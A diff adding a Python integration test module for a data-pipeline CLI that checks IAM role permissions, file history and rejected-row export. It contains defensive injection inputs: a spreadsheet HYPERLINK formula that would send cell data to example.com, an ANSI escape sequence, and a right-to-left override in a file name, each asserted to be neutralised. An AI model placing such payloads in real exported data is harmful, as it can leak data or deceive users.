@@ -1,0 +1,203 @@
+"""The tool for people, with real credentials: an administrator's, and those of each role."""
+
+import contextlib
+import csv
+import io
+import json
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import TYPE_CHECKING
+
+import boto3
+import pytest
+
+from pipeline.command import Command
+from pipeline.outcomes import Exit
+from pipeline.program import COMMANDS
+from tests import roles
+from tests.integration.conftest import Pipeline
+from tests.integration.tool import Answer, run
+from tests.patience import PERMISSION, wait_for
+from tests.target import place_of
+
+if TYPE_CHECKING:
+    from mypy_boto3_iam import IAMClient
+
+DATASET = "customers"
+DUTIES = ("Producer", "Consumer", "Steward")
+FORMULA = '=HYPERLINK("http://example.com/"&A1)'
+
+
+@dataclass(frozen=True)
+class Files:
+    """The keys of three files, and what they are about."""
+
+    rejects: str
+    refused: str
+    corrected: str
+
+
+@dataclass
+class People:
+    """Roles of the account, of one dataset each, and sessions of them."""
+
+    iam: "IAMClient"
+    outputs: dict[str, str]
+    later: contextlib.ExitStack
+
+    def with_policy(self, policy: str = "") -> tuple[str, boto3.Session]:
+        """A role with a managed policy, or with none: its name, and a session."""
+        partition, account = self.outputs["LambdaFunctionArn"].split(":")[1:5:3]
+        name = f"zero-trust-tool-{uuid.uuid4().hex[:12]}"
+        trust = roles.trusting(partition, account)
+        arn = self.later.enter_context(
+            roles.made(self.iam, name, trust, policy, {"dataset": DATASET})
+        )
+        region = place_of(self.outputs).region
+        with contextlib.closing(boto3.client("sts")) as sts:
+            return name, wait_for("session", lambda: roles.become(sts, arn, region), PERMISSION)
+
+
+@pytest.fixture(scope="module", name="people")
+def make_people(iam: "IAMClient", outputs: dict[str, str]) -> Iterator[People]:
+    """The people who call; their roles are deleted at the end."""
+    with contextlib.ExitStack() as later:
+        yield People(iam, outputs, later)
+
+
+@pytest.fixture(scope="module", name="sessions")
+def begin_sessions(people: People, outputs: dict[str, str]) -> dict[str, boto3.Session]:
+    """A session of each duty."""
+    return {duty: people.with_policy(outputs[f"{duty}PolicyArn"])[1] for duty in DUTIES}
+
+
+@pytest.fixture(scope="module", name="files")
+def process_files(pipeline: Pipeline) -> Files:
+    """A file with rejected rows, one that is refused, and one that is corrected."""
+    header = b"customer_id,full_name,email,phone,birth_date,national_id,address,postcode,country,"
+    header += b"signup_at,marketing_consent,loyalty_points,credit_limit\n"
+    row = 'C{0:08},"{1}",c@example.com,,1990-02-28,,x,12345,DE,2024-02-29T12:00:00Z,true,{2},1\n'
+    good = b"".join(row.format(number, "x", 1).encode() for number in range(1, 60))
+    bad = row.format(60, FORMULA.replace('"', '""'), "\x1b[31m1").encode()
+    names = [
+        pipeline.name(DATASET, file)
+        for file in ("a <b> & \N{RIGHT-TO-LEFT OVERRIDE}'c' [d].csv", "empty.csv", "wrong.csv")
+    ]
+    for name, content in zip(names, (header + good + bad, b"", b"wrong\n1\n"), strict=True):
+        pipeline.process(name, content)
+    pipeline.process(names[2], header + good)
+    return Files(*(f"incoming/{name}" for name in names))
+
+
+def arguments(command: Command, files: Files) -> list[str]:
+    """What a command is asked."""
+    of_a_file = command.name in ("show", "rejects")
+    asked = {"redrive": ["--json"]}.get(str(command.name), ["--dataset", DATASET, "--json"])
+    return [str(command.name), *([files.rejects, "--json"] if of_a_file else asked)]
+
+
+@pytest.mark.parametrize("duty", DUTIES)
+@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: str(command.name))
+def test_each_role_may_call_what_the_help_says(
+    command: Command, duty: str, files: Files, sessions: dict[str, boto3.Session]
+) -> None:
+    may = duty in command.policies
+
+    def ask() -> Answer | None:
+        found = run(*arguments(command, files), session=sessions[duty])
+        return found if (found.code == Exit.REFUSED) != may else None
+
+    answer = wait_for(f"{command.name} as {duty}", ask, PERMISSION)
+    assert answer.code in ((Exit.OK, Exit.WRONG) if may else (Exit.REFUSED,))
+    if not may:
+        assert answer.out == ""
+        assert answer.err.startswith("Error: IAM refused ")
+        assert answer.err.count("\n") == 1
+        assert all(f"{policy} policy (arn:" in answer.err for policy in command.policies)
+
+
+@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: str(command.name))
+def test_an_operator_needs_what_the_help_says(
+    command: Command, files: Files, people: People
+) -> None:
+    name, session = people.with_policy()
+    allow = {"Effect": "Allow", "Action": list(command.actions), "Resource": "*"}
+    document = json.dumps({"Version": "2012-10-17", "Statement": allow})
+    people.iam.put_role_policy(RoleName=name, PolicyName="its-own", PolicyDocument=document)
+
+    def ask() -> Answer | None:
+        found = run(*arguments(command, files), session=session)
+        return found if found.code != Exit.REFUSED and not found.err else None
+
+    try:
+        answer = wait_for(f"{command.name} as an operator", ask, PERMISSION)
+    finally:
+        people.iam.delete_role_policy(RoleName=name, PolicyName="its-own")
+    assert json.loads(answer.out)
+
+
+def test_files_are_found(files: Files) -> None:
+    def found(*options: str) -> set[str]:
+        answer = run("files", "--dataset", DATASET, "--since", "1h", "--json", *options)
+        assert answer.code == Exit.OK
+        return {file["key"] for file in json.loads(answer.out)["files"]}
+
+    assert {files.rejects, files.refused, files.corrected} <= found()
+    refused = found("--outcome", "refused")
+    assert files.refused in refused
+    assert not {files.rejects, files.corrected} & refused
+    assert files.rejects in found("--reason", "row:*", "--outcome", "rejects")
+    assert files.refused in found("--reason", "file:empty")
+
+
+def test_the_history_of_a_file_has_every_version(files: Files) -> None:
+    answer = run("show", files.corrected, "--json")
+    assert answer.code == Exit.OK
+    history = json.loads(answer.out)
+    assert history["state"] == "processed"
+    assert len(history["versions"]) == 2
+    assert [one["outcome"] for one in history["earlier_manifests"]] == ["quarantined"]
+    assert history["manifest"]["source"]["version_id"] == history["versions"][0]["version"]
+
+
+def test_a_refused_file_says_what_to_do(files: Files) -> None:
+    answer = run("show", files.refused)
+    assert answer.code == Exit.WRONG
+    assert "file:empty" in answer.out
+    assert "As producer: Upload the file once it is complete" in answer.out
+
+
+def test_a_reader_does_not_see_the_versions_but_is_told(
+    files: Files, sessions: dict[str, boto3.Session]
+) -> None:
+    answer = run("show", files.rejects, session=sessions["Consumer"])
+    assert answer.code == Exit.OK
+    assert "Not shown: IAM refused s3:ListBucketVersions on incoming/" in answer.err
+    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in answer.out + answer.err
+
+
+def test_a_steward_corrects_rows_and_runs_no_formula(
+    files: Files, sessions: dict[str, boto3.Session]
+) -> None:
+    answer = run("rejects", files.rejects, "--csv", session=sessions["Steward"])
+    assert answer.code == Exit.OK
+    text = answer.out.removeprefix("\ufeff")
+    ((_, line, reasons, advice, *fields),) = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert line == "61"
+    assert reasons == "row:control-character"
+    assert advice
+    assert fields[1] == f"'{FORMULA}"
+    assert "\x1b" not in answer.out
+    shown = run("rejects", files.rejects, session=sessions["Steward"])
+    assert "\x1b" not in shown.out + shown.err
+
+
+def test_the_status_counts_what_is_there(files: Files) -> None:
+    answer = run("status", "--dataset", DATASET, "--json")
+    assert answer.code == Exit.WRONG, files.refused
+    (status,) = json.loads(answer.out)["datasets"]
+    assert status["files"] >= 3
+    assert status["rows"] == status["clean"] + status["rejected"]
+    assert status["refused"] >= 1
+    assert status["waiting"] >= 0
